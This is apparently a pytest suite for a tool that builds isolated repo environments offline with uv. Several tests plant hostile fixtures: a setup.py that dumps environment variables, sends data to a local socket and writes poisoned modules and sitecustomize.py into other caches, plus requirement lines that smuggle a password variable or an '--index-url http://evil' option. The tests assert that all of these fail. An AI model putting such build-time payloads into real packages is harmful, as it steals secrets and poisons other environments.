"""Repo environments, built by real uv from a folder of wheels the tests make: no network."""

from __future__ import annotations

import hashlib
import io
import json
import os
import socket
import subprocess
import tarfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import RUNNER, commit_to, make_remote, repack, write_wheel

from pipelines import env_metadata, envs, git, tools
from pipelines.errors import StepError


def wheel(folder: Path, name: str, version: str, code: str, requires: tuple[str, ...] = ()) -> None:
    """A pure-Python wheel of one module `name`, as a build backend would write it."""
    info = f"{name}-{version}.dist-info"
    meta = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"
    meta += "".join(f"Requires-Dist: {r}\n" for r in requires)
    files = {
        f"{name}.py": code.encode(),
        f"{info}/METADATA": meta.encode(),
        f"{info}/WHEEL": b"Wheel-Version: 1.0\nGenerator: tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    write_wheel(folder / f"{name}-{version}-py3-none-any.whl", info, files)


@pytest.fixture
def index(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A find-links folder of wheels, and a pip configured to use it alone (as a user's could be)."""
    folder = tmp_path / "wheels"
    wheel(folder, "greet", "1.0", "HELLO = 'one'\n")
    wheel(folder, "greet", "2.0", "HELLO = 'two'\n")
    wheel(folder, "shout", "1.0", "import greet\nLOUD = greet.HELLO.upper()\n", requires=("greet",))
    wheel(folder, "loud", "1.0", "X = 'loud'\n")
    for name in [n for n in os.environ if n.startswith(("PIP_", "UV_"))]:
        monkeypatch.delenv(name)
    monkeypatch.setenv("PIP_FIND_LINKS", str(folder))
    monkeypatch.setenv("PIP_NO_INDEX", "1")
    monkeypatch.setenv("PIP_CONFIG_FILE", "/dev/null")
    return folder


def mirror_of(tmp_path: Path, name: str, files: dict[str, str]) -> tuple[Path, str]:
    remote = make_remote(tmp_path / f"{name}.git", files)
    mirror = tmp_path / "state" / "mirrors" / f"{name}.git"
    git.ensure_mirror(mirror, str(remote))
    base = git.rev(mirror, "refs/remotes/origin/main")
    assert base
    return mirror, base


def run_in(env: envs.Env, code: str) -> str:
    return subprocess.run([env.python, "-c", code], capture_output=True, text=True, check=True).stdout.strip()


def test_requirements_build_once_and_each_repo_keeps_its_own_pins(tmp_path: Path, index: Path) -> None:
    state = tmp_path / "state"
    one, one_base = mirror_of(tmp_path, "one", {"requirements.txt": "greet==1.0\n", "one.py": ""})
    two, two_base = mirror_of(tmp_path, "two", {"requirements-dev.txt": "shout\ngreet==2.0\n", "two.py": ""})
    first = envs.ensure(state, one, "one", one_base, "auto")
    second = envs.ensure(state, two, "two", two_base, "auto")
    assert first and second and first.how == second.how == "requirements"
    assert run_in(first, "import greet; print(greet.HELLO)") == "one"
    assert run_in(second, "import shout; print(shout.LOUD)") == "TWO"
    record = first.root.with_suffix(".json")
    built = record.read_text()
    again = envs.ensure(state, one, "one", one_base, "auto")  # a second ticket on the same base
    assert again == first and record.read_text() == built  # no second build
    assert not first.root.with_suffix(".build").exists()  # the base's tree, the build's venvs: not kept


def test_a_pyproject_brings_its_test_extra_and_dev_group(tmp_path: Path, index: Path) -> None:
    pyproject = """\
[project]
name = "app"
version = "0"
dependencies = ["greet"]
[project.optional-dependencies]
test = ["greet==2.0"]
docs = ["no-such-docs-tool"]
[dependency-groups]
dev = ["shout"]
"""
    files = {"pyproject.toml": pyproject, "app.py": "", "test-requirements.txt": "loud\n"}
    mirror, base = mirror_of(tmp_path, "app", files)
    env = envs.ensure(tmp_path / "state", mirror, "app", base, "auto")
    assert env and env.how == "pyproject.toml"
    assert run_in(env, "import loud; print(loud.X)") == "loud"  # the test requirements beside it
    assert run_in(env, "import shout; print(shout.LOUD)") == "TWO"
    assert run_in(env, "import importlib.util as u; print(u.find_spec('app'))") == "None"  # not the project


def locked_project(tmp_path: Path, *lock_args: str) -> tuple[Path, dict[str, str], str, dict[str, str]]:
    """A project needing greet<2, locked by uv: its folder, its files, uv, and uv's environment."""
    project = tmp_path / "project"
    project.mkdir()
    (project / "pyproject.toml").write_text(
        '[project]\nname = "app"\nversion = "0"\ndependencies = ["greet<2"]\n'
    )
    uv = tools.which("uv")
    assert uv
    env = {**envs.index_settings(), "UV_CACHE_DIR": str(tmp_path / "cache"), "PATH": tools.BIN}
    subprocess.run([uv, "lock", "-q", *lock_args], cwd=project, env=env, check=True)
    return project, {name: (project / name).read_text() for name in ("pyproject.toml", "uv.lock")}, uv, env


def test_a_uv_lock_is_synced_exactly_and_a_new_lock_is_a_new_env(tmp_path: Path, index: Path) -> None:
    project, files, uv, env = locked_project(tmp_path)
    mirror, base = mirror_of(tmp_path, "app", files)
    state = tmp_path / "state"
    first = envs.ensure(state, mirror, "app", base, "auto")
    assert first and first.how == "uv.lock"
    assert run_in(first, "import greet; print(greet.HELLO)") == "one"

    (project / "pyproject.toml").write_text(files["pyproject.toml"].replace("greet<2", "greet>=2"))
    subprocess.run([uv, "lock", "-q"], cwd=project, env=env, check=True)
    commit_to(tmp_path / "app.git", {n: (project / n).read_text() for n in ("pyproject.toml", "uv.lock")})
    git.fetch(mirror, str(tmp_path / "app.git"))
    newer = git.rev(mirror, "refs/remotes/origin/main")
    assert newer
    second = envs.ensure(state, mirror, "app", newer, "auto")
    assert second and second.key != first.key
    assert run_in(second, "import greet; print(greet.HELLO)") == "two"


def test_an_explicit_env_installs_and_runs_its_setup(tmp_path: Path, index: Path) -> None:
    mirror, base = mirror_of(tmp_path, "app", {"app.py": "", "extra.txt": "shout\n"})
    setting = envs.Explicit(
        install=("greet==1.0", "-r extra.txt"),
        setup=("python -c \"import sys; open(sys.prefix + '/marker', 'w')\"",),
    )
    env = envs.ensure(tmp_path / "state", mirror, "app", base, setting)
    assert env and env.how == "explicit"
    assert run_in(env, "import shout; print(shout.LOUD)") == "ONE"
    assert (env.root / "marker").exists()
    assert envs.ensure(tmp_path / "state", mirror, "app", base, "none") is None


def test_a_broken_requirement_is_one_line_and_is_not_retried(tmp_path: Path, index: Path) -> None:
    mirror, base = mirror_of(tmp_path, "app", {"requirements.txt": "no-such-package==9\n"})
    state = tmp_path / "state"
    with pytest.raises(StepError) as first:
        envs.ensure(state, mirror, "app", base, "auto")
    message = str(first.value)
    assert "\n" not in message and "no-such-package" in message, message
    log = next((state / "envs" / "app").glob("*.log"))
    log.unlink()
    with pytest.raises(StepError) as second:
        envs.ensure(state, mirror, "app", base, "auto")
    assert str(second.value) == message and not log.exists()  # the record answered; uv did not run
    with pytest.raises(StepError):  # asked for by hand (`doit env:REPO`), it is tried again
        envs.ensure(state, mirror, "app", base, "auto", retry=True)
    assert log.exists()


@pytest.mark.parametrize(
    ("files", "how"),
    [
        ({"uv.lock": "", "pyproject.toml": "", "requirements.txt": ""}, "uv.lock"),
        ({"pyproject.toml": "", "setup.py": "", "requirements.txt": ""}, "pyproject.toml"),
        ({"setup.py": "", "setup.cfg": ""}, "setup.py"),
        ({"setup.cfg": "", "requirements/dev.txt": ""}, "setup.cfg"),
        ({"dev-requirements.txt": "", "a.py": ""}, "requirements"),
        ({"tests/test_a.py": ""}, "tests only"),
    ],
)
def test_auto_reads_the_first_source_there_is(tmp_path: Path, files: dict[str, str], how: str) -> None:
    mirror, base = mirror_of(tmp_path, "app", files)
    found = envs.recipe(mirror, base, "auto")
    assert found is not None and found.how == how


def test_a_pyproject_without_a_project_table_takes_every_extra_setup_py_declares(
    tmp_path: Path, index: Path
) -> None:
    repack("setuptools", index)  # setup.py's build backend, from the same folder of wheels
    setup_py = (
        "from setuptools import setup\n"
        "setup(name='app', version='0', py_modules=['app'], extras_require={'dev': ['shout']})\n"
    )
    pyproject = "[tool.pytest.ini_options]\naddopts = '-q'\n"  # tool settings only, as many repos have
    mirror, base = mirror_of(
        tmp_path, "app", {"pyproject.toml": pyproject, "setup.py": setup_py, "app.py": ""}
    )
    env = envs.ensure(tmp_path / "state", mirror, "app", base, "auto")
    assert env and env.how == "pyproject.toml"
    assert run_in(env, "import shout; print(shout.LOUD)") == "TWO"


def test_a_password_in_the_index_url_reaches_no_log_and_no_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in [n for n in os.environ if n.startswith(("PIP_", "UV_"))]:
        monkeypatch.delenv(name)
    monkeypatch.setenv("PIP_CONFIG_FILE", "/dev/null")
    monkeypatch.setenv("PIP_INDEX_URL", "http://shipyard:s3cret-pw@127.0.0.1:9/simple")  # nothing listens
    monkeypatch.setenv("UV_HTTP_RETRIES", "0")
    mirror, base = mirror_of(tmp_path, "app", {"requirements.txt": "greet\n"})
    state = tmp_path / "state"
    with pytest.raises(StepError) as failed:
        envs.ensure(state, mirror, "app", base, "auto")
    assert "Failed to fetch" in str(failed.value)
    written = [p.read_text() for p in (state / "envs" / "app").glob("*.*") if p.is_file()]
    assert written and not any("s3cret-pw" in text for text in [str(failed.value), *written])


def sdist(folder: Path, name: str, setup_py: str) -> None:
    """A source distribution only (no wheel) of `name` 1.0, whose setup.py is `setup_py`."""
    data = {"setup.py": setup_py, "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n"}
    with tarfile.open(folder / f"{name}-1.0.tar.gz", "w:gz") as tar:
        for path, text in data.items():
            info = tarfile.TarInfo(f"{name}-1.0/{path}")
            info.size = len(text.encode())
            tar.addfile(info, io.BytesIO(text.encode()))


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """A TCP port on 127.0.0.1 whose connections are counted after the fact (none is accepted)."""
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        sock.listen(16)
        sock.setblocking(False)
        yield sock


def connections(sock: socket.socket) -> int:
    count = 0
    while True:
        try:
            sock.accept()[0].close()
        except BlockingIOError:
            return count
        count += 1


def digests(folder: Path) -> dict[str, str]:
    """Every file under `folder` by its content: what a later look can tell apart."""
    files = (p for p in folder.rglob("*") if p.is_file() and not p.is_symlink())
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest() for p in files}


CONNECT = """
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=5).sendall(b"{what}")
except OSError as err:
    print("no connection:", err)
"""
HOSTILE = (
    """
import json, os, pathlib, sys
print("SEEN " + json.dumps(dict(os.environ)))
"""
    + CONNECT
    + """
for target in {targets!r}:
    try:
        path = pathlib.Path(target)
        for found in list(path.rglob("greet.py")) if path.is_dir() else []:
            found.write_text("HELLO = 'poisoned'\\n")
        path.mkdir(parents=True, exist_ok=True)
        (path / "sitecustomize.py").write_text("open('/tmp/shipyard-poisoned', 'w')\\n")
    except OSError as err:
        print("no write:", target, err)
from setuptools import setup
setup(name="evil", version="0", py_modules=["evil"], install_requires=["shout"])
"""
)


@pytest.mark.parametrize("user_cache", [False, True], ids=["no-user-cache", "user-UV_CACHE_DIR"])
def test_a_setup_py_run_at_build_time_sees_no_secret_reaches_no_one_and_changes_no_other_env(
    tmp_path: Path, index: Path, listener: socket.socket, monkeypatch: pytest.MonkeyPatch, user_cache: bool
) -> None:
    repack("setuptools", index)
    for name in RUNNER:
        repack(name, index)
    secrets = {"UV_PUBLISH_TOKEN": "planted-publish-token", "GITHUB_TOKEN": "planted-github-token"}
    secrets |= {"UV_INDEX_PRIVATE_PASSWORD": "planted-index-password"}  # an index's: the fetch's alone
    for name, value in secrets.items():
        monkeypatch.setenv(name, value)  # the environment shipyard runs in is what is under test
    mine = tmp_path / "user-uv-cache"
    (mine / "wheels-v5").mkdir(parents=True)
    (mine / "wheels-v5" / "greet.py").write_text("HELLO = 'mine'\n")
    if user_cache:
        monkeypatch.setenv("UV_CACHE_DIR", str(mine))
    state = tmp_path / "state"
    victim, victim_base = mirror_of(
        tmp_path, "victim", {"requirements.txt": "greet==1.0\n", "tests/t.py": ""}
    )
    before = envs.ensure(state, victim, "victim", victim_base, "auto")
    assert before and run_in(before, "import greet; print(greet.HELLO)") == "one"
    victim_files, shared = digests(before.root), state / "envs" / ".uv-cache"
    cached = digests(shared)
    port = listener.getsockname()[1]
    targets = [str(shared), str(before.root / "lib"), str(mine), str(state / "envs" / "victim" / "planted")]
    files = {
        "setup.py": HOSTILE.format(port=port, what="env", targets=targets),
        "requirements-dev.txt": "-e .\nloud\n",  # the project again, as a requirement: built offline too
        "tests/test_it.py": "",
    }
    hostile, hostile_base = mirror_of(tmp_path, "hostile", files)
    env = envs.ensure(state, hostile, "hostile", hostile_base, "auto")

    assert env and run_in(env, "import shout, loud, pytest; print(shout.LOUD)") == "TWO"  # its needs, all
    log = env.root.with_suffix(".log").read_text()
    seen = [json.loads(line.removeprefix("SEEN ")) for line in log.splitlines() if line.startswith("SEEN ")]
    assert seen, log  # setup.py ran (offline: its metadata hook) ...
    for variables in seen:
        assert variables.get("UV_OFFLINE") == "1" and not set(variables) & {*secrets, "UV_FIND_LINKS"}
        assert not any(value in json.dumps(variables) for value in secrets.values())
    assert not any(value in log for value in secrets.values())
    assert connections(listener) == 0 and "no connection" in log  # ... and reached no one
    assert digests(before.root) == victim_files
    assert {p: d for p, d in digests(shared).items() if p in cached} == cached
    assert not any(b"poisoned" in p.read_bytes() for p in shared.rglob("*") if p.is_file())
    assert digests(mine) == {"wheels-v5/greet.py": hashlib.sha256(b"HELLO = 'mine'\n").hexdigest()}
    assert not (state / "envs" / "victim" / "planted").exists()
    later, later_base = mirror_of(tmp_path, "later", {"requirements.txt": "greet==1.0\n", "tests/t.py": ""})
    after = envs.ensure(state, later, "later", later_base, "auto")
    assert after and run_in(after, "import greet; print(greet.HELLO)") == "one"
    assert not any(p.name == "sitecustomize.py" for p in after.root.rglob("*"))


UV_CONFIG = """[project]
name = "app"
version = "0"
dependencies = ["evilsd"]
[tool.uv]
no-binary-package = ["evilsd"]
[tool.uv.pip]
no-binary = ["evilsd"]
"""


@pytest.mark.parametrize(
    ("files", "said"),
    [
        ({"requirements.txt": "--no-binary evilsd\nevilsd\n"}, "--no-binary is not allowed"),
        ({"requirements.txt": "greet @ http://127.0.0.1:{port}/${{UV_INDEX_PRIVATE_PASSWORD}}/greet.whl\n"},
         "names a ${VARIABLE}"),
        ({"requirements.txt": "-e git+http://127.0.0.1:{port}/evil.git#egg=evil\n"}, "outside the repo"),
        ({"pyproject.toml": UV_CONFIG}, "evilsd has only a source distribution"),
        ({"requirements.txt": "evilsd\n"}, "find-links"),
    ],
    ids=["no-binary", "variable", "editable-url", "uv-config", "sdist-only"],
)  # fmt: skip
def test_nothing_a_repo_writes_makes_the_fetch_build_or_send_anything(
    tmp_path: Path, index: Path, listener: socket.socket, monkeypatch: pytest.MonkeyPatch,
    files: dict[str, str], said: str,
) -> None:  # fmt: skip
    port = listener.getsockname()[1]
    sdist(index, "evilsd", CONNECT.format(port=port, what="built") + "raise SystemExit(1)\n")
    monkeypatch.setenv("UV_INDEX_PRIVATE_PASSWORD", "planted-index-password")  # what a URL would carry
    mirror, base = mirror_of(tmp_path, "app", {k: v.format(port=port) for k, v in files.items()})
    with pytest.raises(StepError) as failed:
        envs.ensure(tmp_path / "state", mirror, "app", base, "auto")
    message = str(failed.value)
    assert said in message and "\n" not in message, message
    assert connections(listener) == 0


BACKEND = """
import base64, hashlib, os, zipfile
META = (
    "Metadata-Version: 2.1\\nName: app\\nVersion: 0\\nProvides-Extra: test\\nProvides-Extra: docs\\n"
    "Requires-Dist: loud\\nRequires-Dist: greet==2.0 ; extra == 'test'\\n"
    'Requires-Dist: no-such-docs-tool ; python_version > "3" and extra == "docs"\\n'
)
WHEEL = "Wheel-Version: 1.0\\nGenerator: tests\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"

def prepare_metadata_for_build_wheel(out, settings=None):
    os.makedirs(os.path.join(out, "app-0.dist-info"))
    with open(os.path.join(out, "app-0.dist-info", "METADATA"), "w") as f:
        f.write(META)
    return "app-0.dist-info"

def build_wheel(out, settings=None, metadata_directory=None):
    files = {"app.py": open("app.py", "rb").read(), "app-0.dist-info/METADATA": META.encode(),
             "app-0.dist-info/WHEEL": WHEEL.encode()}
    digest = lambda d: base64.urlsafe_b64encode(hashlib.sha256(d).digest()).rstrip(b"=").decode()
    record = "".join(f"{p},sha256={digest(d)},{len(d)}\\n" for p, d in files.items())
    with zipfile.ZipFile(os.path.join(out, "app-0-py3-none-any.whl"), "w") as whl:
        for path, data in files.items():
            whl.writestr(path, data)
        whl.writestr("app-0.dist-info/RECORD", record + "app-0.dist-info/RECORD,,\\n")
    return "app-0-py3-none-any.whl"

build_editable = build_wheel
"""


def test_an_explicit_local_project_is_built_offline_by_its_own_backend_with_its_extra(
    tmp_path: Path, index: Path
) -> None:
    pyproject = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
    files = {"pyproject.toml": pyproject, "backend.py": BACKEND, "app.py": "WHO = 'app'\n"}
    mirror, base = mirror_of(tmp_path, "app", files)
    setting = envs.Explicit(install=("-e .[test]",))
    env = envs.ensure(tmp_path / "state", mirror, "app", base, setting)
    assert env and run_in(env, "import app, greet, loud; print(app.WHO, greet.HELLO)") == "app two"


def test_a_uv_lock_without_pytest_gets_it_in_the_same_one_install(tmp_path: Path, index: Path) -> None:
    for name in RUNNER:
        repack(name, index)
    _, files, _, _ = locked_project(tmp_path, "--no-index")
    mirror, base = mirror_of(tmp_path, "app", {**files, "tests/test_app.py": ""})
    env = envs.ensure(tmp_path / "state", mirror, "app", base, "auto")
    assert env and run_in(env, "import greet, pytest; print(greet.HELLO)") == "one"


def test_the_fetch_holds_the_index_settings_and_nothing_else(monkeypatch: pytest.MonkeyPatch) -> None:
    given = {"UV_INDEX_URL": "https://u:p@example.test/simple", "UV_INDEX_CORP_USERNAME": "u"}
    given |= {"UV_INDEX_CORP_PASSWORD": "p", "SSL_CERT_FILE": "/etc/ssl/cert.pem"}
    given |= {"HTTPS_PROXY": "http://proxy.test:3128"}
    others = {"UV_PUBLISH_TOKEN": "t", "UV_CACHE_DIR": "/c", "UV_PYTHON": "3.9", "GITHUB_TOKEN": "g"}
    for name, value in {**given, **others}.items():
        monkeypatch.setenv(name, value)  # what index_settings reads is the environment
    settings = envs.index_settings()
    assert {k: v for k, v in settings.items() if k in given} == given
    assert not set(settings) & set(others)


def test_metadata_a_build_points_elsewhere_is_never_read(tmp_path: Path) -> None:
    secret = tmp_path / "host-secret"
    secret.write_text("Metadata-Version: 2.1\nName: x\nVersion: 0\nRequires-Dist: stolen-secret\n")
    out = tmp_path / "out"
    (out / "x-0.dist-info").mkdir(parents=True)
    (out / "x-0.dist-info" / "METADATA").symlink_to(secret)
    with pytest.raises(StepError) as failed:
        env_metadata.requirements(out, None)
    assert "stolen-secret" not in str(failed.value)
    (out / "x-0.dist-info" / "METADATA").unlink()
    (out / "x-0.dist-info" / "METADATA").write_text("Name: x\nRequires-Dist: x ; --index-url http://evil\n")
    with pytest.raises(StepError, match="not a plain requirement"):
        env_metadata.requirements(out, None)
